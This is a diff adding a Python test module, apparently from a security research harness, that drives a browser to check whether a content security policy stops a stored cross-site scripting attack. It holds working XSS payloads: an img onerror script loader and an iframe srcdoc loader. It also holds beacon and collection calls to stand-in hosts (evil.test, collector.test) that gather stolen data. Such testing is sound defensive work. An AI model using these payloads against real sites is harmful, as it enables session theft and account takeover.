@@ -1,0 +1,107 @@
+"""A script in the victim's page that should not be there: what it carries away, what it does in place."""
+
+from dataclasses import dataclass
+from enum import StrEnum
+from typing import TYPE_CHECKING
+
+from authcompare.experiments.browsing.outsider import COLLECT, PAYLOAD
+from authcompare.experiments.browsing.scene import Scene, new_cell
+
+if TYPE_CHECKING:
+    from playwright.sync_api import BrowserContext, Page
+
+ATTACKER, COLLECTOR = "evil.test", "collector.test"
+PATIENCE_MS, LOOK_EVERY_MS = 4000, 20
+BEACON = "(address) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'beacon' }).then(() => 0)"
+MARKED = "(name) => document.documentElement.dataset[name] ?? ''"
+SHOW = "(id) => app.show(id).then(() => 0)"
+LOADER = (
+    "<img src='data:,' onerror=\"const s = document.createElement('script'); s.src = '{script}'; "
+    'document.head.append(s)">'
+)
+FRAME = "<iframe srcdoc=\"<script src='{script}'></script>\"></iframe>"
+
+
+class Policy(StrEnum):
+    """What the content security policy of the page is up against."""
+
+    OFF = "off"
+    ON = "on"
+    ON_HOSTED = "on, script hosted by the site itself"  # an upload served as a script, say
+
+    @property
+    def variant(self) -> str:
+        """Under which name the victim has it."""
+        return "no-csp" if self is Policy.OFF else "product"
+
+    def note(self, victim: str, attacker: str, query: str) -> str:
+        """The text that is stored, and shown unescaped."""
+        if self is Policy.ON_HOSTED:
+            return FRAME.format(script=f"{victim}/victim/uploaded.js?{query}")
+        return LOADER.format(script=f"{attacker}{PAYLOAD}?{query}")
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One place under one policy. `route` is how the loot left, `stolen` as what it let a stranger in."""
+
+    policy: str
+    accepted: bool
+    beacon: bool
+    ran: bool
+    stopped: bool
+    route: str
+    stolen: tuple[str, ...]
+    ridden: bool
+
+
+def attack(scene: Scene, place: str, policy: Policy) -> Attack:
+    """Store the note, have the victim look at it, see what has come of it. Raises Broken."""
+    return scene.act(lambda context: _attack(scene, place, policy, context))
+
+
+def _attack(scene: Scene, place: str, policy: Policy, context: "BrowserContext") -> Attack:
+    cell, collector = new_cell(), scene.outsider.origin(COLLECTOR)
+    beacon = _beacon_arrives(scene, context)
+    page = scene.enter(context, place)
+    accepted = scene.works(page, "control: the page's own request")
+    attacker, query = scene.outsider.origin(ATTACKER), f"cell={cell}&to={collector}"
+    text = policy.note(scene.origin, attacker, query.replace("&", "&amp;"))
+    page.evaluate(SHOW, scene.store_note(text))
+    route, loot = _loot(scene, page, cell)
+    ridden = scene.has_note(f"ridden in {cell}")
+    ran = bool(loot or ridden or _mark(page, "ran"))
+    stopped = not ran and bool(_mark(page, "refused"))
+    stolen = scene.opens(loot.split(), f"CSP {policy}: what the collector received")
+    return Attack(str(policy), accepted, beacon, ran, stopped, route, stolen, ridden)
+
+
+def _beacon_arrives(scene: Scene, context: "BrowserContext") -> bool:
+    """Whether the collector hears the browser at all."""
+    cell, page = new_cell(), context.new_page()
+    page.goto(scene.outsider.origin(ATTACKER))
+    page.evaluate(BEACON, f"{scene.outsider.origin(COLLECTOR)}{COLLECT}?cell={cell}")
+    page.close()
+    return any(one.said == "beacon" for one in scene.outsider.of_cell(cell))
+
+
+def _loot(scene: Scene, page: "Page", cell: str) -> tuple[str, str]:
+    """By which route something arrived, and what; empty if the policy stopped it or nothing comes."""
+    for _ in range(PATIENCE_MS // LOOK_EVERY_MS):
+        arrived = [one for one in scene.outsider.of_cell(cell) if one.path == COLLECT and one.said]
+        if arrived:
+            return ("fetch" if arrived[0].method == "POST" else "navigation"), arrived[0].said
+        if _mark(page, "refused") and not _mark(page, "ran"):
+            break
+        page.wait_for_timeout(LOOK_EVERY_MS)
+    return "", ""
+
+
+def _mark(page: "Page", name: str) -> str:
+    """What page or payload left in the document; a page that is on its way elsewhere has no marks."""
+    from playwright.sync_api import Error
+
+    try:
+        return str(page.evaluate(MARKED, name))
+    except Error:
+        return ""
